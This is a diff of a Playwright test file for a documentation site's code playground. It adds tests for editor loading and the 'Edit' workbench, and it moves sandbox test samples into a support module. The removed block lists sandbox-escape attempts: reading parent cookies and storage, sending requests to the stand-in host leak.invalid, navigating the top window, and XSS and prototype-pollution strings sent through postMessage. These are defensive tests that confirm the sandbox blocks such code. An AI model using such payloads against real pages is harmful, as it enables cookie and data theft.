@@ -6,7 +6,8 @@ import path from 'node:path';
 import {unzipSync} from 'fflate';
 
 import {starts} from '../../src/shared/playground/files.ts';
-import {open} from './support/page.ts';
+import {endless, escapes} from './support/hostile.ts';
+import {holdUp, open} from './support/page.ts';
 import {code, expectPrinted, linkTo, openPlayground, preview, view, write} from './support/playground.ts';
 import {expect, test, type Page} from './support/test.ts';
 import {inFullTier} from './support/tiers.ts';
@@ -141,11 +142,87 @@ test.describe('the playground', () => {
     await expectPrinted(page, '42');
   });
 
-  test('opens from the samples of a page', async ({page}) => {
-    await open(page, '/docs/packages/lexical-headless');
-    await page.getByRole('link', {name: 'Edit', exact: true}).first().click();
-    await expect(page).toHaveURL(/\/play\?sample=/);
+  test('takes what is typed before the code editor is there, and keeps the caret', async ({page}) => {
+    const files = await holdUp(page, '**/assets/playground/editor.*.js');
+    await page.goto(await linkTo({'main.ts': "console.log('a');\nconsole.log('b');"}));
+    const plain = page.getByRole('textbox', {name: 'Code of main.ts', exact: true});
+    await plain.click();
+    await page.keyboard.press('ControlOrMeta+Home');
+    await page.keyboard.type('// before');
+    await expectPrinted(page, 'b');
+    await plain.focus();
+    await files.letThrough();
+    await expect(code(page)).toBeFocused();
+    await page.keyboard.type(', and after\n');
+    await expect(code(page)).toContainText('// before, and after');
+    await expect(code(page)).toContainText("console.log('a');");
+    await expect(plain).toHaveCount(0);
+  });
+
+  test('stays plain text without its code editor, and says so', async ({page}) => {
+    await page.route('**/assets/playground/editor.*.js', (route) => route.abort());
+    await page.goto(headless);
+    await expect(page.getByRole('alert')).toContainText('The code editor could not be loaded');
+    await page.getByRole('textbox', {name: 'Code of main.ts', exact: true}).fill("console.log('plain');");
+    await expectPrinted(page, 'plain');
+  });
+});
+
+test.describe('"Edit"', () => {
+  const guide = '/docs/packages/lexical-headless';
+
+  test('opens the workbench in the place of the sample, and gives that back', async ({page}) => {
+    await open(page, guide);
+    const edit = page.getByRole('link', {name: 'Edit', exact: true}).first();
+    const place = await edit.getAttribute('href');
+    await edit.focus();
+    await page.keyboard.press('Enter');
+    const workbench = page.getByRole('region', {name: /^Edit: /});
+    await expect(workbench).toBeFocused();
     await expectPrinted(page, 'Release notes');
+    await write(page, "console.log('changed in place');");
+    await expectPrinted(page, 'changed in place');
+    await expect(page).toHaveURL(guide);
+    await workbench.getByRole('button', {name: 'Close'}).click();
+    await expect(workbench).toHaveCount(0);
+    await expect(page.locator(`a[href="${place ?? ''}"]`)).toBeFocused();
+    await page.keyboard.press('Enter');
+    await expectPrinted(page, 'changed in place');
+    await workbench.getByRole('link', {name: 'Open in the playground'}).click();
+    await expect(page).toHaveURL(place ?? '');
+    await expectPrinted(page, 'changed in place');
+  });
+
+  test('replaces a live sample, or all files of one, and moves nothing above', async ({page}) => {
+    await open(page, '/docs/getting-started/quick-start');
+    const live = page.locator('[data-live-sample]').first();
+    await live.scrollIntoViewIfNeeded();
+    const before = await live.boundingBox();
+    await live.getByRole('link', {name: 'Edit'}).click();
+    const workbench = page.getByRole('region', {name: /^Edit: /});
+    await expect(preview(page).getByRole('textbox')).toBeVisible();
+    await expect(live).toHaveCount(0);
+    expect(Math.abs(((await workbench.boundingBox())?.y ?? 0) - (before?.y ?? 0))).toBeLessThan(6);
+    await workbench.getByRole('button', {name: 'Close'}).click();
+    await expect(live.getByRole('link', {name: 'Edit'})).toBeFocused();
+  });
+
+  test('fits a phone', async ({page}) => {
+    await page.setViewportSize({width: 390, height: 844});
+    await open(page, guide);
+    await page.getByRole('link', {name: 'Edit', exact: true}).first().click();
+    await expect(code(page)).toBeVisible();
+    await expectPrinted(page, 'Release notes');
+    expect(await page.evaluate(() => document.documentElement.scrollWidth - innerWidth)).toBeLessThanOrEqual(0);
+  });
+
+  test('leads to the playground in a new tab', async ({page, context}) => {
+    await open(page, guide);
+    const edit = page.getByRole('link', {name: 'Edit', exact: true}).first();
+    const tab = context.waitForEvent('page');
+    await edit.click({modifiers: ['ControlOrMeta']});
+    await expect(await tab).toHaveURL(/\/play\?sample=/);
+    await expect(page).toHaveURL(guide);
   });
 });
 
@@ -208,18 +285,7 @@ test.describe('a project that is taken home', () => {
 
 test.describe('code that would not end', () => {
   // The frame is taken away, and with it whatever it was about to load.
-  for (const [name, text] of [
-    ['a loop', 'while (true) {}'],
-    ['a loop that waits', 'for (;;) await 0;'],
-    [
-      'updates that follow from each other',
-      "import {$createParagraphNode, $getRoot, createEditor} from 'lexical';\nconst editor = createEditor();\neditor.registerUpdateListener(() => {\n  editor.update(() => {\n    $getRoot().append($createParagraphNode());\n  });\n});\neditor.setRootElement(document.body.appendChild(document.createElement('div')));\neditor.update(() => {\n  $getRoot().append($createParagraphNode());\n});",
-    ],
-    [
-      'messages without end',
-      "const flood = () => {\n  for (let i = 0; i < 500; i++) parent.postMessage({kind: 'alive'}, '*');\n  setTimeout(flood);\n};\nflood();",
-    ],
-  ] as const) {
+  for (const [name, text] of Object.entries(endless)) {
     test(`is stopped with a message: ${name}`, async ({page}) => {
       await openPlayground(page, await linkTo({'main.ts': text}));
       await expect(page.getByRole('alert')).toContainText('The code was stopped.', {timeout: 30_000});
@@ -229,69 +295,10 @@ test.describe('code that would not end', () => {
   }
 });
 
-/** Code that prints "escaped" when it gets what it must not get. Requests that it makes have "leak" in their address. */
-const attempts: Record<string, string> = {
-  'the page around it': `
-for (const read of [() => parent.document, () => top!.document.cookie, () => parent.localStorage, () => frameElement]) {
-  try { if (read()) console.log('escaped'); } catch {}
-}`,
-  'what the browser keeps': `
-for (const read of [() => localStorage, () => sessionStorage, () => document.cookie, () => indexedDB.open('x'), () => caches.open('x')]) {
-  try {
-    const got: unknown = read();
-    if (got instanceof Promise) got.then(() => console.log('escaped'), () => {});
-    else if (got instanceof IDBOpenDBRequest) got.onsuccess = () => console.log('escaped');
-    else console.log('escaped');
-  } catch {}
-}`,
-  'the network by scripts': `
-for (const address of ['/leak', 'http://leak.invalid/leak']) {
-  fetch(new URL(address, 'http://127.0.0.1')).then(() => console.log('escaped'), () => {});
-  try { navigator.sendBeacon(address, 'x'); } catch {}
-}
-try { new WebSocket('ws://leak.invalid/leak').onopen = () => console.log('escaped'); } catch {}
-try { new EventSource('http://leak.invalid/leak').onopen = () => console.log('escaped'); } catch {}`,
-  'the network by elements': `
-document.body.insertAdjacentHTML('beforeend', '<img src="http://leak.invalid/leak"><link rel="stylesheet" href="http://leak.invalid/leak"><style>@import "http://leak.invalid/leak"; body { background: url(http://leak.invalid/leak) }</style><video src="http://leak.invalid/leak"></video><object data="http://leak.invalid/leak"></object>');
-const script = document.createElement('script');
-script.src = 'http://leak.invalid/leak';
-document.body.append(script);`,
-  'the window around it': `
-for (const go of [() => { top!.location.href = '/leak'; }, () => { parent.location.replace('/leak'); }, () => { if (open('/leak')) console.log('escaped'); }]) {
-  try { go(); } catch {}
-}
-document.body.innerHTML = '<a href="/leak" target="_top">x</a><a href="/leak" target="_blank">x</a>';
-document.querySelectorAll('a').forEach((link) => link.click());`,
-  'another frame': `
-for (const html of ['<iframe src="/docs/intro?leak"></iframe>', '<iframe srcdoc="<script>parent.postMessage(1)</script>"></iframe>', '<iframe src="http://leak.invalid/leak"></iframe>']) {
-  document.body.insertAdjacentHTML('beforeend', html);
-}
-for (const frame of document.querySelectorAll('iframe')) {
-  try { if (frame.contentWindow?.localStorage) console.log('escaped'); } catch {}
-}`,
-  'workers and text as code': `
-const url = URL.createObjectURL(new Blob(['postMessage(1)'], {type: 'text/javascript'}));
-try { new Worker(url).onmessage = () => console.log('escaped'); } catch {}
-try { navigator.serviceWorker.register('/leak.js').then(() => console.log('escaped'), () => {}); } catch {}
-try { eval('console.log("escaped")'); } catch {}
-try { new Function('console.log("escaped")')(); } catch {}`,
-  'forms and files': `
-document.body.innerHTML = '<form action="http://leak.invalid/leak" method="post"><input name="a" value="b"></form><a href="data:text/plain,leak" download="leak.txt">x</a>';
-document.querySelector('form')!.submit();
-document.querySelector('a')!.click();`,
-  'its own address': `
-try { location.href = 'http://leak.invalid/leak'; } catch {}`,
-  'the page by messages': `
-parent.postMessage({kind: 'console', entries: [{level: 'log', values: [{type: 'string', text: '<img src=x onerror="document.title=1">'}]}], dropped: 0}, '*');
-parent.postMessage({kind: 'state', view: {tab: 'HTML', steps: [1], current: 0, text: '<script>document.title = 1</script>'}}, '*');
-parent.postMessage({kind: 'failed', error: {type: 'error', text: 'Minified Lexical error #1; visit javascript:alert(1) for'}}, '*');
-parent.postMessage({kind: 'need', packages: ['../../docs/intro', '__proto__', 'constructor']}, '*');`,
-};
-
 test.describe('hostile code of a shared link does not reach', () => {
   test.use({refusalsExpected: true});
 
-  for (const [name, text] of Object.entries(attempts)) {
+  for (const [name, text] of Object.entries(escapes)) {
     test(name, async ({page, context}) => {
       await page.addInitScript(() => {
         if (window.top === window) localStorage.setItem('secret', 'x');
